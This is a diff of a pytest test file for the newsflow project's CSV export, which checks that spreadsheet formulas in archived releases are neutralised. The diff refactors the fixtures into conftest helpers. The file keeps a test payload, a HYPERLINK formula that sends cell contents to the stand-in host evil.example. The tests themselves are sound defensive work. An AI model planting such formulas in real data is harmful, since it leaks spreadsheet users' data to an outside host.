@@ -7,7 +7,6 @@ YYYY-MM-DD, as export and report do. JSON export is a machine format and stays a
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import io
 import json
@@ -16,7 +15,7 @@ import sqlite3
 import pytest
 from click.testing import CliRunner
 
-from newsflow.browse import make_datasette
+from conftest import copy_archive, reading_room_get
 from newsflow.cli import cli
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me") HOPE'
@@ -25,19 +24,15 @@ FORMULA_TEXT = "=1+1 is what this paragraph starts with."
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
-@pytest.fixture(scope="module")
-def demo(tmp_path_factory):
-    db = tmp_path_factory.mktemp("csvsafety") / "archive.db"
-    assert CliRunner().invoke(cli, ["demo", "--db", str(db), "--port", "0"]).exit_code == 0
-    return db
+@pytest.fixture
+def demo(demo_archive):
+    return demo_archive
 
 
 @pytest.fixture
-def hostile(demo, tmp_path):
+def hostile(demo_archive, tmp_path):
     """A copy of the demo archive where two HOPE releases carry formulas, as a hostile newsroom could write them."""
-    db = tmp_path / "hostile.db"
-    with sqlite3.connect(demo) as src, sqlite3.connect(db) as dst:
-        src.backup(dst)
+    db = copy_archive(demo_archive, tmp_path / "hostile.db")
     with sqlite3.connect(db) as conn:
         first, second = (
             r[0]
@@ -54,11 +49,7 @@ def hostile(demo, tmp_path):
     return db
 
 
-def get(db, path):
-    async def go():
-        return await make_datasette(db).client.get(path)
-
-    return asyncio.run(go())
+get = reading_room_get
 
 
 def formula_cells(rows: list[list[str]]) -> list[str]:
